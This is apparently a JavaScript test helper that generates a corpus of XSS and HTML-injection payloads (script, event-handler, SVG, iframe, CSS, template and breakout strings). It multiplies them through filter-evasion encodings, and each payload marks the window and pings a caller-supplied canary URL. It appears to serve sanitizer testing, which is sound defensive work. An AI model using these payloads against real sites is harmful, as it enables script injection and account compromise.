// Strings that would run, load or break something wherever a page took them for more than text.

/** What runs: it marks the window, and calls the canary. @param {string} canary an origin */
const bases = (canary) => {
  const run = `top.__pwned=1;fetch('${canary}/ran')`;
  return [
    `<script>${run}</script>`,
    `<script src=${canary}/s.js></script>`,
    `<script type=module>import '${canary}/m.js'</script>`,
    `<img src=x onerror="${run}">`,
    `<img src=${canary}/i.png>`,
    `<image href=${canary}/ih.png>`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><use href="${canary}/u.svg#x"/></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src=${canary}/f.html></iframe>`,
    `<object data="${canary}/o.swf"></object>`,
    `<embed src="${canary}/e.swf">`,
    `<link rel=stylesheet href=${canary}/l.css>`,
    `<link rel=prefetch href=${canary}/p>`,
    `<style>@import '${canary}/st.css';*{background:url(${canary}/bg)}</style>`,
    `<div style="background:url(${canary}/d)">`,
    `<base href=${canary}/>`,
    `<meta http-equiv=refresh content="0;url=${canary}/r">`,
    `<form action=${canary}/fo><button autofocus onfocus="${run}">x</button></form>`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}">`,
    `<input autofocus onfocus="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}">`,
    `<a href="javascript:${run}" id=x tabindex=1 autofocus onfocus="${run}">x</a>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<template><img src=x onerror="${run}"></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `</textarea></title></style></script><img src=x onerror="${run}">`,
    `"><img src=x onerror="${run}">`,
    `' autofocus onfocus='${run}' x='`,
    `" onmouseover="${run}" x="`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `--><img src=x onerror="${run}"><!--`,
    `]]><img src=x onerror="${run}"><![CDATA[`,
    '{{constructor.constructor(\'top.__pwned=1\')()}}${top.__pwned=1}#{top.__pwned=1}<%= top.__pwned=1 %>',
    '__proto__', 'constructor', '\u202e\u2066<b>evil\u2069\u202c',
  ];
};

const entities = (/** @type {(code: number) => string} */ write) => (/** @type {string} */ text) => [...text].map((c) => (/[<>"'&:;()/=]/.test(c) ? write(c.codePointAt(0) ?? 0) : c)).join('');

/** @type {Record<string, (text: string) => string>} */
const ENCODINGS = {
  plain: (text) => text,
  'mixed case': (text) => text.replace(/<(\/?)(\w+)/g, (_, slash, tag) => `<${slash}${[...tag].map((c, at) => (at % 2 ? c : c.toUpperCase())).join('')}`),
  percent: encodeURIComponent,
  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  'decimal entities': entities((code) => `&#${code};`),
  'hex entities without semicolons': entities((code) => `&#x${code.toString(16)} `),
  'JavaScript escapes': entities((code) => `\\u${code.toString(16).padStart(4, '0')}`),
  'UTF-7': (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-'),
  'full width': (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  base64: (text) => `data:text/html;base64,${Buffer.from(text).toString('base64')}`,
  'out of an attribute': (text) => `x" '>${text}`,
  'out of a script': (text) => `"}]</script>${text}<script>var a=["`,
  'slashes for blanks': (text) => text.replace(/(<\w+) /g, '$1/'),
};

/** @param {string} canary @returns {string[]} */
export const plain = (canary) => bases(canary);

/** @param {string} canary @returns {string[]} */
export const corpus = (canary) => [...new Set(Object.values(ENCODINGS).flatMap((encode) => bases(canary).map(encode)))];
